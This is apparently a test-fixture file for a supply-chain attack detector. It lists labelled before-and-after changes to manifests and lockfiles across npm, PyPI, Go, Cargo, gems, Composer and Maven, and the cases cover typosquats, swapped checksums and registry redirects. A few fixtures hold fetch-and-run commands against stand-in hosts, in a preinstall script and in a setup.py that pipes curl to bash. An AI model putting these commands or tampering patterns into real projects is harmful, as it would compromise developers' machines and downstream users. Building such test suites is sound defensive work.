import * as t from '../file-texts';
import { at } from '../file-texts';
import { atNight, attack, bot, type LabelledChange, newcomer, stranger, unapproved } from '../labelled-change';

const ranges = { fastify: '^5.4.0', 'ua-parser-js': '^0.7.28' };
const base = [at('avvio@9.1.0'), at('fastify@5.4.0'), at('ua-parser-js@0.7.28')];

/** Attacks through what is installed; the part that signals are tuned on. */
export const developmentPackageAttacks: LabelledChange[] = [
  attack(
    'ua-parser-preinstall',
    'npm',
    'ua-parser-js, 2021: a taken-over package with a preinstall script in a patch version',
    {
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock(ranges, [...base.slice(0, 2), at('ua-parser-js@0.7.29', { hasInstallScript: true })]),
      ],
    },
    { must: ['install_script_added'], facts: bot },
  ),
  attack(
    'postinstall-bundle',
    'npm',
    'Shai-Hulud, 2025: a postinstall script that runs a bundle',
    {
      'package.json': [
        t.packageJson(ranges),
        t.packageJson(ranges, { scripts: { postinstall: 'node dist/bundle.js' } }),
      ],
    },
    { must: ['install_script_added'], facts: newcomer },
  ),
  attack(
    'preinstall-curl',
    'npm',
    'A preinstall script that fetches a program and runs it',
    {
      'package.json': [
        t.packageJson(ranges),
        t.packageJson(ranges, {
          scripts: {
            preinstall: 'curl -so /tmp/.x https://get.simulated-drop.example/x && chmod +x /tmp/.x && /tmp/.x',
          },
        }),
      ],
    },
    { must: ['install_script_added', 'download_and_run'] },
  ),
  attack(
    'lock-integrity-npm',
    'npm',
    'Lockfile injection: another checksum and another host under the same version',
    {
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock(ranges, [
          at('avvio@9.1.0', {
            registry: 'https://registry.simulated-mirror.example',
            integrity: t.sha512('swapped avvio'),
          }),
          ...base.slice(1),
        ]),
      ],
    },
    { must: ['integrity_changed', 'registry_changed', 'lock_without_manifest'], facts: stranger },
  ),
  attack(
    'lock-integrity-removed',
    'npm',
    'Lockfile injection: the checksum of one entry is gone',
    {
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock(ranges, [at('avvio@9.1.0', { integrity: null }), ...base.slice(1)]),
      ],
    },
    { must: ['integrity_removed', 'lock_without_manifest'] },
  ),
  attack(
    'lock-integrity-sha1',
    'npm',
    'The strong checksum of one entry is replaced by a weak one of other content',
    {
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock(ranges, [at('avvio@9.1.0', { integrity: 'sha1-8s9rVQNfMcYQZn1bO4CkH9tN7mk=' }), ...base.slice(1)]),
      ],
    },
    { must: ['integrity_weakened', 'lock_without_manifest'], facts: unapproved },
  ),
  attack(
    'lock-new-entry-only',
    'npm',
    'Lockfile injection: a package that nothing asks for is put into the lockfile, with an install script',
    {
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock(ranges, [...base, at('zz-loader-simulated@1.0.0', { hasInstallScript: true })]),
      ],
    },
    { must: ['lock_without_manifest', 'install_script_added'] },
  ),
  attack(
    'lock-git-resolved',
    'npm',
    'Lockfile injection: an entry is fetched from a repository',
    {
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock(ranges, [
          at('avvio@9.1.0', {
            resolved: 'git+ssh://git@github.com/sam-newcomer/avvio.git#0f3c9d2e8b7a6f5e4d3c2b1a0f9e8d7c6b5a4f3e',
            integrity: null,
          }),
          ...base.slice(1),
        ]),
      ],
    },
    { must: ['direct_source', 'integrity_removed', 'lock_without_manifest'], facts: newcomer },
  ),
  attack(
    'yarn-integrity-in-update',
    'npm',
    'A swapped checksum hides in a refresh of many packages',
    {
      'yarn.lock': [
        t.yarnLock([at('a-one@1.0.0'), at('b-two@1.0.0'), at('semver@7.7.1')]),
        t.yarnLock([
          at('a-one@1.0.1'),
          at('b-two@1.0.1'),
          at('semver@7.7.1', { integrity: t.sha512('swapped semver') }),
        ]),
      ],
    },
    { must: ['integrity_changed'], facts: bot },
  ),
  attack(
    'registry-of-everything',
    'npm',
    'Everything comes from a registry of somebody else, checksums included',
    {
      '.npmrc': ['save-exact=true\n', 'save-exact=true\nregistry=https://npm.simulated-drop.example/\n'],
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock(
          ranges,
          base.map((entry) => ({ ...entry, registry: 'https://npm.simulated-drop.example' })),
        ),
      ],
    },
    { must: ['registry_changed'], may: ['lock_without_manifest'], facts: newcomer },
  ),
  attack(
    'own-scope-from-public',
    'npm',
    'Dependency confusion, 2021: a package of the company now comes from the public registry in a far higher version',
    {
      'package.json': [
        t.packageJson({ '@simulated-corp/tokens': '^3.2.0', zod: '^3.25.0' }),
        t.packageJson({ '@simulated-corp/tokens': '>=3.2.0', zod: '^3.25.0' }),
      ],
      'package-lock.json': [
        t.npmLock({}, [
          at('@simulated-corp/tokens@3.2.4', { registry: t.ownRegistry }),
          at('zod@3.25.1', { registry: t.ownRegistry }),
        ]),
        t.npmLock({}, [at('@simulated-corp/tokens@9999.0.1'), at('zod@3.25.1', { registry: t.ownRegistry })]),
      ],
    },
    { must: ['registry_changed', 'version_anomaly', 'unpinned'] },
  ),
  attack(
    'manifest-alias-swap',
    'npm',
    'An alias puts a package of another owner in the place of a well-known one',
    {
      'package.json': [t.packageJson({ debug: '^4.4.1' }), t.packageJson({ debug: 'npm:debug-fork-simulated@^4.4.2' })],
    },
    { must: ['override_added'], may: ['new_dependency', 'typosquat'] },
  ),
  attack(
    'override-by-git',
    'npm',
    'An override fetches a transitive package from a repository',
    {
      'package.json': [
        t.packageJson(ranges),
        t.packageJson(ranges, { overrides: { avvio: 'github:sam-newcomer/avvio#fast' } }),
      ],
    },
    { must: ['override_added', 'direct_source'], facts: newcomer },
  ),
  attack(
    'tarball-from-address',
    'npm',
    'A dependency is a tarball from an address',
    {
      'package.json': [
        t.packageJson(ranges),
        t.packageJson({ ...ranges, avvio: 'https://203.0.113.50/avvio-9.1.0.tgz' }),
      ],
    },
    { must: ['direct_source'], may: ['new_dependency'], facts: atNight },
  ),
  attack(
    'colors-sabotage',
    'npm',
    'colors, 2022: its owner released a version that breaks programs, far above the one before',
    {
      'package-lock.json': [
        t.npmLock({ colors: '^1.4.0' }, [at('colors@1.4.0')]),
        t.npmLock({ colors: '^1.4.0' }, [at('colors@1.4.44-liberty-2')]),
      ],
    },
    { may: ['version_anomaly'], facts: bot },
  ),
  attack(
    'flatmap-like-transitive',
    'npm',
    'event-stream, 2018: a patch version brings a new package',
    {
      'package-lock.json': [
        t.npmLock({ 'stream-tools': '^3.3.5' }, [at('stream-tools@3.3.5')]),
        t.npmLock({ 'stream-tools': '^3.3.5' }, [at('flatmap-simulated@0.1.1'), at('stream-tools@3.3.6')]),
      ],
    },
    { facts: bot },
  ),
  attack(
    'typo-crossenv',
    'npm',
    'crossenv, 2017: a well-known name without its hyphen',
    {
      'package.json': [t.packageJson({ zod: '^3.25.0' }), t.packageJson({ zod: '^3.25.0', crossenv: '^6.1.1' })],
      'package-lock.json': [
        t.npmLock({ zod: '^3.25.0' }, [at('zod@3.25.1')]),
        t.npmLock({ zod: '^3.25.0', crossenv: '^6.1.1' }, [
          at('crossenv@6.1.1', { hasInstallScript: true }),
          at('zod@3.25.1'),
        ]),
      ],
    },
    { must: ['typosquat', 'new_dependency', 'install_script_added'] },
  ),
  attack(
    'typo-transitive',
    'npm',
    'A typosquat comes in as a transitive package only',
    {
      'package-lock.json': [
        t.npmLock(ranges, base),
        t.npmLock(ranges, [at('avvio@9.1.1'), ...base.slice(1), at('typescriptt@5.8.3')]),
      ],
    },
    { must: ['typosquat'], facts: bot },
  ),
  attack(
    'typo-scope',
    'npm',
    'A scope one letter away from one that the project uses',
    {
      'package.json': [
        t.packageJson({ '@nestjs/core': '^11.1.3' }),
        t.packageJson({ '@nestjs/core': '^11.1.3', '@netsjs/common': '^11.1.3' }),
      ],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'typo-look-alike-letters',
    'npm',
    'A name in which letters that look alike are exchanged',
    {
      'package.json': [t.packageJson({ zod: '^3.25.0' }), t.packageJson({ zod: '^3.25.0', mornent: '^2.30.1' })],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'greek-name',
    'npm',
    'A name with a Greek letter',
    {
      'package.json': [
        t.packageJson({ zod: '^3.25.0' }),
        t.packageJson({ zod: '^3.25.0', 'c\u03bfmmander': '^14.0.0' }),
      ],
    },
    { must: ['look_alike_characters', 'new_dependency'], may: ['typosquat'] },
  ),
  attack(
    'pypi-typo-filler',
    'pypi',
    'A well-known name with a word that says nothing, as in many campaigns on PyPI',
    {
      'pyproject.toml': [
        t.poetryProject({ pydantic: '^2.11' }),
        t.poetryProject({ pydantic: '^2.11', 'python-colorama': '^0.4' }),
      ],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'pypi-typo-swap',
    'pypi',
    'Two letters swapped in the name of a well-known package',
    { 'requirements.txt': ['boto3==1.39.3\n', 'boto3==1.39.3\nurlib3==2.5.0\n'] },
    { must: ['typosquat'], may: ['new_dependency'] },
  ),
  attack(
    'pip-index-replaced',
    'pypi',
    'The index of pip is replaced, without encryption',
    {
      'pip.conf': [
        '[global]\nindex-url = https://pypi.simulated-corp.example/simple\n',
        '[global]\nindex-url = http://pypi.simulated-drop.example/simple\ntrusted-host = pypi.simulated-drop.example\n',
      ],
    },
    { must: ['registry_changed', 'plain_http_source'] },
  ),
  attack(
    'pypi-git-requirement',
    'pypi',
    'A requirement becomes a branch of a fork',
    {
      'requirements.txt': [
        'requests==2.32.4\nboto3==1.39.3\n',
        'requests @ git+https://github.com/sam-newcomer/requests@main\nboto3==1.39.3\n',
      ],
    },
    { must: ['direct_source'], facts: newcomer },
  ),
  attack(
    'setup-py-system',
    'pypi',
    'A setup.py that starts a shell',
    {
      'setup.py': [
        'from setuptools import setup\nsetup(name="x", version="1")\n',
        'import os\nfrom setuptools import setup\nos.system("curl -s https://get.simulated-drop.example/a.sh | bash")\nsetup(name="x", version="1")\n',
      ],
    },
    { must: ['install_script_added', 'build_hook_changed', 'download_and_run'] },
  ),
  attack(
    'pipfile-hash-swapped',
    'pypi',
    'The checksums of a package in Pipfile.lock are replaced',
    {
      'Pipfile.lock': [
        JSON.stringify(
          {
            _meta: { sources: [{ name: 'pypi', url: 'https://pypi.org/simple' }] },
            default: { idna: { hashes: [`sha256:${t.hex256('idna')}`], version: '==3.10' } },
            develop: {},
          },
          null,
          4,
        ),
        JSON.stringify(
          {
            _meta: { sources: [{ name: 'pypi', url: 'https://pypi.org/simple' }] },
            default: { idna: { hashes: [`sha256:${t.hex256('swapped idna')}`], version: '==3.10' } },
            develop: {},
          },
          null,
          4,
        ),
      ],
    },
    { must: ['integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'ctx-like-takeover',
    'pypi',
    'ctx, 2022: an old package gets a new version by a new owner',
    { 'requirements.txt': ['ctx==0.1.2\n', 'ctx==0.2.6\n'] },
    { facts: bot },
  ),
  attack(
    'go-typo-organisation',
    'golang',
    'A module of an organisation one letter away',
    {
      'go.mod': [
        t.goMod(['golang.org/x/sys@v0.33.0']),
        t.goMod(['github.com/gorrila/mux@v1.8.1', 'golang.org/x/sys@v0.33.0']),
      ],
      'go.sum': [
        t.goSum(['golang.org/x/sys@v0.33.0']),
        t.goSum(['github.com/gorrila/mux@v1.8.1', 'golang.org/x/sys@v0.33.0']),
      ],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'go-typo-suffix',
    'golang',
    'A module of an organisation with a word put behind its name',
    {
      'go.mod': [
        t.goMod(['golang.org/x/sys@v0.33.0']),
        t.goMod(['github.com/spf13-go/cobra@v1.9.2', 'golang.org/x/sys@v0.33.0']),
      ],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'go-sum-one-hash',
    'golang',
    'One checksum of go.sum is replaced',
    {
      'go.sum': [
        t.goSum(['golang.org/x/net@v0.41.0', 'golang.org/x/text@v0.26.0']),
        t.goSum(['golang.org/x/net@v0.41.0', 'golang.org/x/text@v0.26.0'], (module) =>
          module.includes('/text') ? 'swapped' : module,
        ),
      ],
    },
    { must: ['integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'go-replace-by-fork',
    'golang',
    'A module is replaced by that of somebody else',
    {
      'go.mod': [
        t.goMod(['google.golang.org/grpc@v1.73.0']),
        t.goMod(
          ['google.golang.org/grpc@v1.73.0'],
          '\nreplace google.golang.org/grpc => github.com/sam-newcomer/grpc-go v1.73.1\n',
        ),
      ],
    },
    { must: ['override_added'], facts: newcomer },
  ),
  attack(
    'cargo-rustdecimal',
    'cargo',
    'rustdecimal, 2022: the name of a well-known crate without its underscore',
    {
      'Cargo.toml': [t.cargoToml({ serde: '1.0' }), t.cargoToml({ rustdecimal: '1.23', serde: '1.0' })],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'cargo-checksum-swapped',
    'cargo',
    'The checksum of a crate is replaced',
    {
      'Cargo.lock': [
        t.cargoLock([{ spec: 'bytes@1.10.1' }, { spec: 'serde@1.0.219' }]),
        t.cargoLock([{ spec: 'bytes@1.10.1', checksum: t.hex256('swapped') }, { spec: 'serde@1.0.219' }]),
      ],
    },
    { must: ['integrity_changed', 'lock_without_manifest'] },
  ),
  attack(
    'cargo-patch-git',
    'cargo',
    'A patch puts a fork in the place of a crate',
    {
      'Cargo.toml': [
        t.cargoToml({ tokio: '1' }),
        t.cargoToml(
          { tokio: '1' },
          '\n[patch.crates-io]\ntokio = { git = "https://github.com/sam-newcomer/tokio", branch = "fast" }\n',
        ),
      ],
    },
    { must: ['override_added', 'direct_source'], facts: unapproved },
  ),
  attack(
    'gem-git-branch',
    'gem',
    'A gem is taken from a branch of a fork',
    {
      Gemfile: [
        t.gemfile(['"devise", "~> 4.9"']),
        t.gemfile(['"devise", git: "https://github.com/sam-newcomer/devise.git", branch: "main"']),
      ],
      'Gemfile.lock': [
        t.gemfileLock(['devise@4.9.4'], ['devise (~> 4.9)']),
        t.gemfileLock([], ['devise!'], {
          extra:
            'GIT\n  remote: https://github.com/sam-newcomer/devise.git\n  revision: 1f0c2d3e4b5a69788796a5b4c3d2e1f001234567\n  branch: main\n  specs:\n    devise (4.9.4)\n\n',
        }),
      ],
    },
    { must: ['direct_source'], facts: newcomer },
  ),
  attack(
    'gem-typo-swap',
    'gem',
    'Two letters swapped in the name of a gem',
    { Gemfile: [t.gemfile(['"puma", "~> 6.6"']), t.gemfile(['"puma", "~> 6.6"', '"sidekqi", "~> 8.0"'])] },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'composer-repository-and-plugin',
    'composer',
    'A repository of somebody else, and a plugin that may run code',
    {
      'composer.json': [
        t.composerJson({ 'symfony/console': '^7.3' }),
        t.composerJson(
          { 'symfony/console': '^7.3', 'sam-newcomer/speed-up': '^1.0' },
          {
            repositories: [{ type: 'vcs', url: 'https://git.simulated-forge.example/sam-newcomer/speed-up.git' }],
            config: { 'allow-plugins': { 'sam-newcomer/speed-up': true } },
          },
        ),
      ],
    },
    { must: ['registry_changed', 'new_dependency', 'build_hook_changed'] },
  ),
  attack(
    'maven-group-typo',
    'maven',
    'A group one letter away from a well-known one',
    {
      'pom.xml': [
        t.pom(['org.slf4j:slf4j-api:2.0.17']),
        t.pom(['org.slf4j:slf4j-api:2.0.17', 'org.fasterxml.jackson.core:jackson-databind:2.19.1']),
      ],
    },
    { must: ['typosquat', 'new_dependency'] },
  ),
  attack(
    'gradle-wrapper-sum-swapped',
    'maven',
    'The checksum of the Gradle distribution is replaced, the distribution stays',
    {
      'gradle/wrapper/gradle-wrapper.properties': [
        t.gradleWrapper('8.14.2'),
        t.gradleWrapper('8.14.2').replace(t.hex256('gradle 8.14.2'), t.hex256('swapped')),
      ],
    },
    { must: ['verification_weakened'] },
  ),
  attack(
    'gradle-verification-off',
    'maven',
    'Gradle no longer compares checksums',
    {
      'gradle/verification-metadata.xml': [
        t.verificationMetadata([{ spec: 'com.squareup.okio:okio:3.12.0' }]),
        t.verificationMetadata([{ spec: 'com.squareup.okio:okio:3.12.0' }], false),
      ],
    },
    { must: ['verification_weakened'] },
  ),
  attack(
    'gradle-script-from-address',
    'maven',
    'The build applies a script from an address',
    {
      'build.gradle': [
        "plugins {\n    id 'java'\n}\n",
        "plugins {\n    id 'java'\n}\napply from: 'https://raw.simulated-forge.example/sam/speed-up.gradle'\n",
      ],
    },
    { must: ['build_hook_changed', 'direct_source'], facts: newcomer },
  ),
];
